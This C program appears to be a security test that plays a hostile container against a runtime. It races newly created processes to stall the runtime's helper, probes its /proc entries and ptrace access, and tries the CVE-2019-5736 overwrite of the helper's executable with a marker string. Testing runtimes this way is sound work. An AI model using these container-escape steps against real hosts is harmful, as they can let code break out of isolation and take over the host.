/* The hostile container: stops every process that appears in its pid namespace at birth and looks at it.
 *
 *   attacker OUT
 *
 * Pids of a pid namespace are handed out in order, so kill(2) on the next one, in a busy loop, catches
 * a process some microseconds after its birth. Caught while it still is shim's helper it is stalled
 * for as long as we like: then everything that could lead out of the container is tried. SIGTERM ends
 * the attack and leaves one finding a line in OUT:
 *
 *   caught N      processes stopped, of them
 *   helper N      were still the helper
 *   reach WHAT    /proc/PID/WHAT of a helper could be opened, or it could be traced
 *   exe TARGET    what /proc/PID/exe of any other process said (needs CAP_SYS_PTRACE for a helper)
 *   write WHAT    how an attempt to write to a helper's executable ended
 *   status LINE   what a helper's /proc/PID/status says of its privileges
 *   fd TARGET     what a helper had open */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_FACTS 256

static char *facts[MAX_FACTS];
static volatile sig_atomic_t over;
static long caught, helpers;

static void stop(int sig)
{
    (void)sig;
    over = 1;
}

static void fact(const char *format, ...)
{
    char text[512];
    va_list args;
    va_start(args, format);
    vsnprintf(text, sizeof(text), format, args);
    va_end(args);
    for (int i = 0; i < MAX_FACTS; i++) {
        if (!facts[i])
            facts[i] = strdup(text);
        if (!strcmp(facts[i], text))
            return;
    }
}

static const char *name(int pid, const char *what)
{
    static char path[64];
    snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
    return path;
}

static int slurp(int pid, const char *what, char *text, size_t size)
{
    int fd = open(name(pid, what), O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, text, size - 1);
    if (fd >= 0)
        close(fd);
    text[n < 0 ? 0 : n] = 0;
    return n > 0;
}

/* The pid handed out last in this pid namespace: the last word of /proc/loadavg. */
static int last_pid(void)
{
    char text[128];
    int fd = open("/proc/loadavg", O_RDONLY);
    ssize_t n = read(fd, text, sizeof(text) - 1);
    close(fd);
    text[n < 0 ? 0 : n] = 0;
    char *last = strrchr(text, ' ');
    return last ? atoi(last) : 0;
}

/* Before execve the kernel's name of the process is that of the memfd; nobody else has one. */
static int is_helper(int pid)
{
    char comm[64];
    return slurp(pid, "comm", comm, sizeof(comm)) &&
           (strstr(comm, "shim") || strstr(comm, "memfd"));
}

/* Until the stop signal has taken effect, the process may run on into execve. */
static int stopped(int pid)
{
    char stat[512];
    for (int i = 0; i < 100000; i++) {
        if (!slurp(pid, "stat", stat, sizeof(stat)))
            return 0;
        char state = strrchr(stat, ')')[2];
        if (state == 'T' || state == 't')
            return 1;
        if (state == 'Z' || state == 'X')
            return 0;
    }
    return 0;
}

static void privileges(int pid)
{
    static const char *const wanted[] = {"Uid:", "Gid:", "Groups:", "Cap", "NoNewPrivs:"};
    char text[4096];
    slurp(pid, "status", text, sizeof(text));
    for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n"))
        for (size_t i = 0; i < sizeof(wanted) / sizeof(wanted[0]); i++)
            if (!strncmp(line, wanted[i], strlen(wanted[i])))
                fact("status %s", line);
}

static void descriptors(int pid)
{
    DIR *dir = opendir(name(pid, "fd"));
    if (!dir)
        return;
    for (struct dirent *e; (e = readdir(dir));) {
        char path[300], target[300];
        snprintf(path, sizeof(path), "%s", name(pid, "fd"));
        snprintf(path + strlen(path), sizeof(path) - strlen(path), "/%s", e->d_name);
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        if (n > 0 && e->d_name[0] != '.') {
            target[n] = 0;
            fact("fd %s %s", e->d_name, target);
        }
    }
    closedir(dir);
}

/* The directories themselves open for root; what counts is what is in them. */
static void inside(int pid, const char *what)
{
    DIR *dir = opendir(name(pid, what));
    if (!dir)
        return;
    for (struct dirent *e; (e = readdir(dir));) {
        char target[300];
        if (e->d_name[0] == '.')
            continue;
        int fd = openat(dirfd(dir), e->d_name, O_PATH);
        if (fd >= 0 || readlinkat(dirfd(dir), e->d_name, target, sizeof(target)) >= 0)
            fact("reach %s", what);
        if (fd >= 0)
            close(fd);
    }
    closedir(dir);
}

static void reach(int pid)
{
    static const char *const files[] = {"mem", "environ", "maps", "root", "cwd", "exe"};
    inside(pid, "fd");
    inside(pid, "map_files");
    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        char byte;
        int link = i >= 3, fd = open(name(pid, files[i]), link ? O_PATH : O_RDONLY);
        /* some open for anybody and are refused, or empty, when they are read; mem has nothing at 0 */
        if (fd >= 0 && (link || i == 0 || read(fd, &byte, 1) > 0))
            fact("reach %s", files[i]);
        if (fd >= 0)
            close(fd);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        fact("reach ptrace");
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

/* CVE-2019-5736: keep the executable open while it runs, open it again for writing when it does not. */
static int hold_exe(int pid)
{
    char target[300];
    ssize_t n = readlink(name(pid, "exe"), target, sizeof(target) - 1);
    if (n > 0) {
        target[n] = 0;
        fact("exe %s", target);
    }
    int fd = open(name(pid, "exe"), O_RDWR | O_TRUNC);
    fact("write running %s", fd < 0 ? strerrorname_np(errno) : "OPENED");
    if (fd >= 0)
        close(fd);
    return open(name(pid, "exe"), O_RDONLY);
}

static void overwrite(int held)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
    int fd = -1;
    for (int i = 0; fd < 0 && i < 100000; i++) { /* ETXTBSY until it has ended */
        fd = open(path, O_WRONLY);
        if (fd < 0 && errno != ETXTBSY)
            break;
    }
    if (fd < 0)
        fact("write ended %s", strerrorname_np(errno));
    else
        fact("write ended %s",
             write(fd, "#!/attack\n", 10) < 0 ? strerrorname_np(errno) : "WRITTEN");
    close(fd);
    close(held);
}

int main(int argc, char **argv)
{
    struct sigaction act = {.sa_handler = stop};
    sigaction(SIGTERM, &act, NULL);
    int next = argc == 2 ? getpid() + 1 : 0;
    if (!next)
        return 2;
    close(open("/ready", O_CREAT | O_WRONLY, 0644));
    for (long spins = 0; !over; spins++) {
        if (kill(next, SIGSTOP) != 0) {
            if (spins % 1024 == 0 && last_pid() >= next)
                next = last_pid() + 1; /* it has come and gone */
            continue;
        }
        caught++;
        int held = -1;
        if (stopped(next)) {
            if (is_helper(next)) {
                helpers++;
                privileges(next);
                descriptors(next);
                reach(next);
                held = hold_exe(next);
            } else {
                char target[300];
                ssize_t n = readlink(name(next, "exe"), target, sizeof(target) - 1);
                target[n < 0 ? 0 : n] = 0;
                fact("exe %s", n < 0 ? strerrorname_np(errno) : target);
            }
        }
        kill(next, SIGCONT);
        if (held >= 0)
            overwrite(held);
        next++;
    }
    FILE *out = fopen(argv[1], "w");
    if (!out)
        return 3;
    fprintf(out, "caught %ld\nhelper %ld\n", caught, helpers);
    for (int i = 0; i < MAX_FACTS && facts[i]; i++)
        fprintf(out, "%s\n", facts[i]);
    return fclose(out) ? 3 : 0;
}
